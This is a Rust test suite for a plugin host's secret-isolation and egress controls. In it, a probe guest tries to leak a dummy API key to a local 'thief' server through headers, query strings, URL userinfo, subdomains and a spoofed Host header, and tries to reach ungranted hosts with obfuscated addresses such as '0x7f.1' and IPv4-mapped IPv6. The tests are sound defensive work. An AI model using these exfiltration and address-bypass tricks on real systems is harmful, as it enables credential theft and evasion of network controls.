//! A guest that does its best to see the key it may use, or to send it elsewhere.

use crate::{DEADLINE, grant, rig, start, tag};
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinSet;
use tokio::time::timeout;
use vg_plugin_host::api::SttInput;
use vg_plugin_host::links::secrets::SecretSpec;
use vg_plugin_host::links::{LinkCounts, Links, LinksConfig};
use vg_plugin_host::session::{Opening, SttEvent};

const KEY: &str = "sk-0123456789abcdef";

/// A vendor that keeps what it was sent, and sends all of it back.
struct Vendor {
    address: SocketAddr,
    heard: Arc<Mutex<String>>,
    _calls: JoinSet<()>,
}

impl Vendor {
    async fn open() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let address = listener.local_addr().unwrap();
        let heard = Arc::<Mutex<String>>::default();
        let mut calls = JoinSet::new();
        let paper = Arc::clone(&heard);
        calls.spawn(async move {
            let mut serving = JoinSet::new();
            while let Ok((stream, _)) = listener.accept().await {
                serving.spawn(echo(stream, Arc::clone(&paper)));
            }
        });
        Self { address, heard, _calls: calls }
    }

    fn origin(&self) -> String {
        format!("http://{}", self.address)
    }

    fn heard(&self) -> String {
        self.heard.lock().unwrap().clone()
    }
}

async fn echo(mut stream: TcpStream, heard: Arc<Mutex<String>>) {
    let mut request = Vec::new();
    let mut piece = [0; 4096];
    while !request.ends_with(b"END") {
        match stream.read(&mut piece).await {
            Ok(0) | Err(_) => return,
            Ok(len) => request.extend_from_slice(&piece[..len]),
        }
    }
    let request = String::from_utf8(request).unwrap();
    heard.lock().unwrap().push_str(&request);
    let key = request.lines().find_map(|line| line.strip_prefix("x-key: ")).unwrap_or("none");
    let head = format!("HTTP/1.1 200 OK\r\nx-you-said: {key}\r\nconnection: close\r\ncontent-length: {}\r\n\r\n", request.len());
    // The guest may be gone: then nobody reads it.
    let _ = stream.write_all(format!("{head}{request}").as_bytes()).await;
}

/// What the guest was told, all of it, and what the links counted. The key is bound to `bound`, and may be used where `permitted`.
async fn told(asks: Vec<Value>, permitted: &[&Vendor], bound: &Vendor) -> (String, LinkCounts) {
    let rig = rig();
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("key");
    std::fs::write(&file, KEY).unwrap();
    let reference = format!("file:{}", file.display());
    let spec = SecretSpec::Static { reference, hosts: Some(vec![bound.origin()]) };
    let grant = grant(permitted.iter().map(|vendor| vendor.origin().parse().unwrap()).collect(), "api_key", spec);
    let links = Links::new(LinksConfig::default()).unwrap();
    let opening = Opening { door: Some(Box::new(links.door(Arc::new(grant)))), ..Opening::from(tag()) };
    let ends = asks.len();
    let options = json!({ "behave": "curious", "at": 1, "asks": asks }).to_string();
    let mut session = rig.host.open_stt(&rig.load("test/probe-stt"), start(&options), opening).unwrap();
    session.input.send(SttInput::Audio(vec![0; 320])).await.unwrap();
    let mut heard = String::new();
    while heard.matches("Finished(").count() + heard.matches("Failed(").count() < ends {
        match timeout(DEADLINE, session.events.recv()).await.unwrap().unwrap() {
            SttEvent::Final(said) => heard.push_str(&said.text),
            SttEvent::Partial(_) => {}
            other => panic!("{other:?}"),
        }
    }
    (heard, links.counts())
}

#[tokio::test]
async fn a_permitted_vendor_that_echoes_the_key_tells_the_guest_nothing_and_is_counted() {
    let vendor = Vendor::open().await;
    let ask = json!({ "url": vendor.origin(), "headers": { "x-key": "{secret:api_key}" }, "body": "END" });
    let (heard, counts) = told(vec![ask], &[&vendor], &vendor).await;
    assert!(vendor.heard().contains(&format!("x-key: {KEY}")), "the vendor was given the key");
    assert!(heard.contains("status: 200") && heard.contains("x-key: *******"), "{heard}");
    assert!(!heard.contains(KEY), "{heard}");
    assert_eq!(counts.echoes_masked, 2, "once in a header, once in the body");
}

#[tokio::test]
async fn a_key_goes_nowhere_but_where_it_is_bound() {
    let (vendor, thief) = (Vendor::open().await, Vendor::open().await);
    let header = json!({ "x-key": "{secret:api_key}" });
    let thief_at = thief.address;
    let asks = vec![
        json!({ "url": thief.origin(), "headers": header, "body": "END" }),
        json!({ "url": format!("{}/?key={{secret:api_key}}", thief.origin()), "body": "END" }),
        json!({ "url": format!("http://{{secret:api_key}}@{thief_at}/"), "body": "END" }),
        json!({ "url": format!("http://{{secret:api_key}}.{thief_at}/"), "body": "END" }),
        json!({ "url": format!("{}/?then={thief_at}", vendor.origin()), "headers": { "host": thief_at.to_string(), "x-key": "{secret:api_key}" }, "body": "END" }),
    ];
    let (heard, _) = told(asks, &[&vendor, &thief], &vendor).await;
    assert_eq!(heard.matches("Failed(").count(), 5, "{heard}");
    assert!(!heard.contains(KEY) && !thief.heard().contains(KEY), "{heard}");
    assert!(!vendor.heard().contains(&thief_at.to_string()), "no request in another's name");
}

#[tokio::test]
async fn a_body_is_sent_as_the_guest_wrote_it() {
    let vendor = Vendor::open().await;
    let ask = json!({ "url": vendor.origin(), "body": "say {secret:api_key} END" });
    let (heard, _) = told(vec![ask], &[&vendor], &vendor).await;
    assert!(vendor.heard().contains("say {secret:api_key} END") && !vendor.heard().contains(KEY));
    assert!(heard.contains("say {secret:api_key} END"), "{heard}");
}

#[tokio::test]
async fn a_host_beyond_the_grant_is_never_dialled() {
    let (vendor, other) = (Vendor::open().await, Vendor::open().await);
    let asks = vec![
        json!({ "url": other.origin(), "body": "END" }),
        json!({ "url": format!("http://localhost:{}/", other.address.port()), "body": "END" }),
        json!({ "url": format!("http://[::ffff:127.0.0.1]:{}/", vendor.address.port()), "body": "END" }),
        json!({ "url": format!("http://0x7f.1:{}/", other.address.port()), "body": "END" }),
    ];
    let (heard, counts) = told(asks, &[&vendor], &vendor).await;
    assert_eq!(heard.matches("EgressDenied").count(), 4, "{heard}");
    assert_eq!((counts.egress_denied, counts.connected), (4, 0));
    assert!(other.heard().is_empty() && vendor.heard().is_empty());
}
